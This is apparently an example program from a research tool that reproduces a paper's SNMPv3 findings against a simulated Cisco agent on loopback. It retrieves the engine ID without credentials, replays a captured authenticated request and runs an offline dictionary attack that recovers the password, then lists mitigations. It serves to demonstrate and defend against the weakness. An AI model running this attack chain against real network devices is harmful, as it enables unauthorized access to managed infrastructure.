// Security example: the paper's Section 8 findings, end to end over real
// loopback UDP.
//
//  1. One unauthenticated discovery packet extracts the persistent engine
//     ID from an agent — no credentials needed.
//
//  2. Because USM keys are localized with exactly that engine ID, a single
//     captured authenticated message suffices for an offline dictionary
//     attack on the SNMPv3 password.
//
//     go run ./examples/security
package main

import (
	"context"
	"fmt"
	"log"
	"net"
	"time"

	"snmpv3fp"
	"snmpv3fp/internal/engineid"
	"snmpv3fp/internal/labsim"
	"snmpv3fp/internal/snmp"
	"snmpv3fp/internal/usm"
)

func main() {
	// A router with SNMPv3 configured: an authenticated user with a weak
	// password, as operators commonly deploy.
	user := labsim.V3User{Name: "netops", Protocol: usm.AuthSHA1, Password: "cisco123"}
	agent, err := labsim.Start(labsim.Config{
		OS:        labsim.CiscoIOS,
		Community: "private",
		User:      &user,
		EngineID:  engineid.NewMAC(9, [6]byte{0x58, 0x8d, 0x09, 0xde, 0xad, 0x01}),
		Boots:     42,
		BootTime:  time.Now().Add(-30 * 24 * time.Hour),
	})
	if err != nil {
		log.Fatal(err)
	}
	defer agent.Close()

	// Step 1: unauthenticated discovery — the engine ID falls out.
	tr, err := snmpv3fp.NewUDPTransport(agent.Addr().Port())
	if err != nil {
		log.Fatal(err)
	}
	defer tr.Close()
	obs, err := snmpv3fp.ProbeContext(context.Background(), tr, agent.Addr().Addr(), 1, 2*time.Second)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("step 1 — discovery without credentials:\n")
	fmt.Printf("  engine ID 0x%x (persistent; %s)\n",
		obs.EngineID, snmpv3fp.FingerprintEngineID(obs.EngineID).VendorLabel())

	// Step 2: a legitimate manager polls the device; we "capture" one of
	// its authenticated requests off the wire.
	captured, err := labsim.NewAuthenticatedGet(user, obs.EngineID, obs.EngineBoots, obs.EngineTime,
		1001, snmp.OIDSysDescr)
	if err != nil {
		log.Fatal(err)
	}
	// (Confirm the agent really accepts it — this is live traffic.)
	conn, err := net.DialUDP("udp4", nil, net.UDPAddrFromAddrPort(agent.Addr()))
	if err != nil {
		log.Fatal(err)
	}
	defer conn.Close()
	conn.Write(captured)
	conn.SetReadDeadline(time.Now().Add(time.Second))
	buf := make([]byte, 2048)
	if n, err := conn.Read(buf); err == nil {
		if msg, err := snmp.DecodeV3(buf[:n]); err == nil && msg.ScopedPDU.PDU != nil &&
			msg.ScopedPDU.PDU.Type == snmp.PDUGetResponse {
			fmt.Printf("step 2 — captured one authenticated request (%d bytes); agent answers it\n",
				len(captured))
		}
	}

	// Step 3: offline dictionary attack. The engine ID inside the captured
	// message is all that key localization needs.
	wordlist := []string{
		"password", "123456", "letmein", "admin", "snmp", "monitor",
		"public", "private", "cisco", "cisco123", "juniper", "secret",
	}
	start := time.Now()
	pw, tried, ok := usm.Crack(captured, usm.AuthSHA1, wordlist)
	elapsed := time.Since(start)
	if !ok {
		log.Fatal("crack failed (password not in wordlist)")
	}
	fmt.Printf("step 3 — offline brute force: recovered password %q after %d candidates in %v\n",
		pw, tried, elapsed.Round(time.Millisecond))
	fmt.Println("\nmitigations (paper §8): don't derive engine IDs from MACs, restrict")
	fmt.Println("management-plane access, and use strong SNMPv3 passphrases.")
}
